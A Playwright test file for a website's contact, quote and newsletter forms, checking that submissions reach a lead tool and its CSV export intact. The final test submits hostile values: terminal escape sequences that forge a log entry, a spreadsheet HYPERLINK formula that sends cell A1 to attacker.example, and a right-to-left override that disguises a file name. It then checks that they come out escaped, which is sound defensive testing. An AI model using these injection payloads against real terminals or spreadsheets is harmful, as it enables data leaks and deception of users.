/**
 * A visitor sends each form through the real API (no mocked answers), and the company finds
 * exactly what was typed with its lead tool, run as it would run it.
 */
import { randomUUID } from "node:crypto";
import { test, expect } from "./support/fixtures";
import {
  contactForm,
  contactSendingMs,
  humanFillMs,
  newsletterForm,
  quoteForm,
} from "./support/forms";
import { runClockUntilVisible, stopClockAt } from "./support/clock";
import { appStarted, waitForHydration } from "./support/hydration";
import { leadTool, leadsFrom, uniqueVisitor } from "./support/leads";

/** The contact and quote forms take a visitor longer than this; faster is treated as a bot. */
const HUMAN_FILL_MS = humanFillMs("contact");
const SENDING_MS = contactSendingMs;

/** A CSV document (RFC 4180) as rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Asha, whose message has a comma, quotes and a line break: the CSV export must keep them. */
const asha = {
  name: "Asha Verma",
  phone: "+91 98765 43210",
  message: 'Hello, we need a "booking" system for our three clinics.',
};
type Visitor = ReturnType<typeof uniqueVisitor>;

const contactFields = (visitor: Visitor) => ({
  name: visitor.name,
  email: visitor.email,
  phone: visitor.phone,
  subject: visitor.subject,
  message: visitor.message,
});

/** Drops the console errors of requests the journey failed on purpose. */
function forgiveFailedLoads(problems: string[]) {
  const rest = problems.filter((text) => !/Failed to load resource|ERR_FAILED/.test(text));
  problems.splice(0, problems.length, ...rest);
}

test.beforeEach(async ({ page }) => {
  // The forms time the visitor with performance.now(); the fake clock stands in for typing time.
  // It stands still unless a test moves it, so a sending state, a success panel and a toast last
  // until then, however slow the machine.
  const start = new Date();
  await stopClockAt(page, new Date(start.getTime() + 1000));
});

test("a contact message reaches the lead tool, in its list and its CSV export", async ({
  page,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo, asha);
  await page.goto("/contact");
  await waitForHydration(page.locator("main form"), { pausedClock: true });
  await contactForm(page).fill(visitor);
  await page.clock.runFor(HUMAN_FILL_MS);

  const answer = page.waitForResponse("**/api/contact");
  await page.getByRole("button", { name: "Send Message" }).click();
  expect((await answer).status()).toBe(201);
  await page.clock.runFor(SENDING_MS);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();

  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.kind).toBe("contact");
  expect(stored[0]!.data).toEqual(contactFields(visitor));

  const [header, ...rows] = parseCsv(leadTool(testInfo, ["export", "--csv"]));
  const column = (name: string) => header!.indexOf(name);
  const row = rows.find((cells) => cells[column("id")] === stored[0]!.id);
  expect(row, "the contact entry in the CSV export").toBeDefined();
  expect(row![column("kind")]).toBe("contact");
  for (const field of ["name", "email", "subject", "message"] as const)
    expect(row![column(field)], field).toBe(visitor[field]);
  // A leading + is defused with an apostrophe, so a spreadsheet never reads a formula.
  expect(row![column("phone")]!.replace(/^'/, "")).toBe(visitor.phone);
});

test("a message typed while the app is still loading is not taken for a bot", async ({
  page,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo, asha);
  // A slow connection: the page's HTML is on screen at once, its scripts arrive only once the
  // visitor has typed the whole message.
  let typed!: () => void;
  const scriptsMayArrive = new Promise<void>((release) => (typed = release));
  await page.route("**/assets/**/*.js", async (route) => {
    await scriptsMayArrive;
    await route.continue();
  });
  await page.goto("/contact", { waitUntil: "commit" });
  const form = contactForm(page);
  await form.fill(visitor);
  // Typing it took a person's time, all of it before the app arrived.
  await page.clock.runFor(HUMAN_FILL_MS);
  typed();

  // Sent the moment the app has taken over the form (React has attached it): long after the
  // visitor could start typing, but only an instant after the app began to time the form.
  await waitForHydration(page.locator("main form"), { pausedClock: true });
  await form.expectKept(visitor);
  const answer = page.waitForResponse("**/api/contact");
  await form.submit();
  expect((await answer).status()).toBe(201);
  await page.clock.runFor(SENDING_MS);
  await expect(form.sent).toBeVisible();

  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored, "the message is stored, not dropped as a bot's").toHaveLength(1);
  expect(stored[0]!.data).toEqual(contactFields(visitor));
});

test("a quote request from the modal reaches the lead tool", async ({ page }, testInfo) => {
  const visitor = uniqueVisitor(testInfo, asha);
  await page.goto("/contact");
  // The modal over the page, opened in the app (before it starts, the link opens /quotation).
  await appStarted(page);
  await page.getByRole("link", { name: "Get a Quote" }).click();
  const quote = quoteForm(page);
  // React reveals the loaded dialog on a timer.
  await runClockUntilVisible(page, 100, quote.dialog);

  const description = `A mobile app for booking yoga classes, with payments. ${visitor.message}`;
  await quote.fill({
    name: visitor.name,
    email: visitor.email,
    projectType: "Mobile App",
    description,
    budget: "$10,000-$25,000",
  });
  await page.clock.runFor(HUMAN_FILL_MS);

  const answer = page.waitForResponse("**/api/quote");
  await quote.submit();
  expect((await answer).status()).toBe(201);
  await expect(quote.dialog).toBeHidden();
  await expect(quote.sent).toBeVisible();
  await expect(page).toHaveURL(/\/contact$/);

  const stored = leadsFrom(testInfo, "quote", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.data).toEqual({
    name: visitor.name,
    email: visitor.email,
    projectType: "mobile",
    description,
    budget: "medium",
  });
});

test("subscribing the same address twice stores it once", async ({ page }, testInfo) => {
  const { email } = uniqueVisitor(testInfo, asha);
  await page.goto("/about");
  const newsletter = newsletterForm(page);
  // The visitor scrolls down to the box; the app takes it over (React attaches to the form).
  await waitForHydration(newsletter.email);
  await page.clock.runFor(humanFillMs("newsletter"));

  for (let time = 1; time <= 2; time++) {
    const answer = page.waitForResponse("**/api/newsletter");
    await newsletter.subscribe(email);
    expect((await answer).status(), `subscription ${time}`).toBe(201);
    await expect(newsletter.status).toHaveText("Thanks for subscribing!");
    await expect(newsletter.email).toHaveValue("");
    await expect(newsletter.alert).toHaveCount(0);
  }

  const stored = leadsFrom(testInfo, "newsletter", email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.data).toEqual({ email });
});

test("offline, the message waits with every field kept, and is stored once back online", async ({
  page,
  context,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo, asha);
  await page.goto("/contact");
  await waitForHydration(page.locator("main form"), { pausedClock: true });
  await contactForm(page).fill(visitor);
  await page.clock.runFor(HUMAN_FILL_MS);
  await context.setOffline(true);

  await page.getByRole("button", { name: "Send Message" }).click();
  // The sending state starts the shortest-sending timer; moving the clock before it exists
  // would leave that timer for a clock that no longer moves.
  await expect(page.getByRole("button", { name: "Sending..." })).toBeDisabled();
  await page.clock.runFor(SENDING_MS);
  const alert = page.getByRole("alert").filter({ hasText: "not sent" });
  await expect(alert).toBeVisible();
  await expect(alert).toContainText("offline");
  await contactForm(page).expectKept(visitor);
  const retry = alert.getByRole("button", { name: "Try again" });
  await expect(retry).toBeVisible();
  const mailto = new URL(
    (await alert.getByRole("link", { name: "Email us instead" }).getAttribute("href"))!,
  );
  expect(mailto.protocol).toBe("mailto:");
  expect(mailto.searchParams.get("subject")).toBe(`${visitor.subject} from ${visitor.name}`);
  for (const value of [visitor.email, visitor.phone, visitor.message])
    expect(mailto.searchParams.get("body")).toContain(value);

  // Trying again while still offline fails the same way and loses nothing.
  await retry.click();
  await expect(page.getByRole("button", { name: "Sending..." })).toBeDisabled();
  await expect(alert).toHaveCount(0);
  await page.clock.runFor(SENDING_MS);
  await expect(alert).toBeVisible();
  await contactForm(page).expectKept(visitor);
  expect(leadsFrom(testInfo, "contact", visitor.email)).toEqual([]);

  // Back online, the saved message goes out by itself.
  await context.setOffline(false);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();
  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.data).toEqual(contactFields(visitor));
});

test("when the connection drops before the answer, Try again stores the message once", async ({
  page,
  consoleProblems,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo, asha);
  let cut = true;
  // The request reaches the server, which stores it; the answer is lost on the way back.
  await page.route("**/api/contact", async (route) => {
    if (!cut) return route.continue();
    await route.fetch();
    return route.abort("connectionreset");
  });
  await page.goto("/contact");
  await waitForHydration(page.locator("main form"), { pausedClock: true });
  await contactForm(page).fill(visitor);
  await page.clock.runFor(HUMAN_FILL_MS);

  await page.getByRole("button", { name: "Send Message" }).click();
  await expect(page.getByRole("button", { name: "Sending..." })).toBeDisabled();
  await page.clock.runFor(SENDING_MS);
  const alert = page.getByRole("alert").filter({ hasText: "not sent" });
  await expect(alert).toBeVisible();
  await expect(alert).toContainText("could not reach our server");
  await contactForm(page).expectKept(visitor);
  await expect(alert.getByRole("link", { name: "Email us instead" })).toHaveAttribute(
    "href",
    /^mailto:/,
  );
  const first = leadsFrom(testInfo, "contact", visitor.email);
  expect(first).toHaveLength(1);

  cut = false;
  const answer = page.waitForResponse("**/api/contact");
  await alert.getByRole("button", { name: "Try again" }).click();
  expect((await answer).status()).toBe(201);
  await page.clock.runFor(SENDING_MS);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();

  // The retry carried the same submission id: the lead tool still shows one message.
  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.id).toBe(first[0]!.id);
  expect(stored[0]!.data).toEqual(contactFields(visitor));
  forgiveFailedLoads(consoleProblems);
});

test("a hostile name reaches the lead tool escaped in its list and defused in its CSV", async ({
  request,
}, testInfo) => {
  const tag = `${testInfo.project.name}-${randomUUID().slice(0, 8)}`;
  const email = `mallory.${tag}@attacker.example`;
  // Clear the screen, retitle the window, then fake a whole entry from the boss.
  const name = `Mallory\u001b[2J\u001b]0;pwned\u0007\r\n\r\n2026-01-01T00:00:00.000Z  contact    Boss`;
  const message = `=HYPERLINK("https://attacker.example/?"&A1,"Invoice") \u202egnp.exe ${tag}`;
  const origin = new URL(testInfo.project.use.baseURL!).origin;
  const answer = await request.post("/api/contact", {
    headers: { Origin: origin, "Sec-Fetch-Site": "same-origin" },
    data: {
      id: randomUUID(),
      elapsedMs: 8000,
      website: "",
      name,
      email,
      phone: "",
      subject: "General Inquiry",
      message,
    },
  });
  expect(answer.status(), await answer.text()).toBe(201);

  // JSON keeps exactly what was sent.
  const [stored] = leadsFrom(testInfo, "contact", email);
  expect(stored!.data.name).toBe(name);
  expect(stored!.data.message).toBe(message);

  // The readable list: one entry, every control character shown as an escape.
  const list = leadTool(testInfo, ["list", "--kind", "contact"]);
  // eslint-disable-next-line no-control-regex -- no control character may reach the terminal
  expect(list).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  const entry = list.split("\n\n").find((block) => block.includes(email))!;
  expect(entry.split("\n")[0]).toContain(
    "Mallory\\x1b[2J\\x1b]0;pwned\\x07\\r\\n\\r\\n2026-01-01T00:00:00.000Z  contact    Boss",
  );
  expect(entry).toContain("\\u202egnp.exe");

  // The CSV: no control characters, and the formula is text.
  const [header, ...rows] = parseCsv(leadTool(testInfo, ["export", "--csv"]));
  const row = rows.find((cells) => cells[header!.indexOf("email")] === email)!;
  expect(row[header!.indexOf("name")]).toBe(
    "Mallory[2J]0;pwned\n\n2026-01-01T00:00:00.000Z  contact    Boss",
  );
  expect(row[header!.indexOf("message")]).toBe(
    `'=HYPERLINK("https://attacker.example/?"&A1,"Invoice") gnp.exe ${tag}`,
  );
});
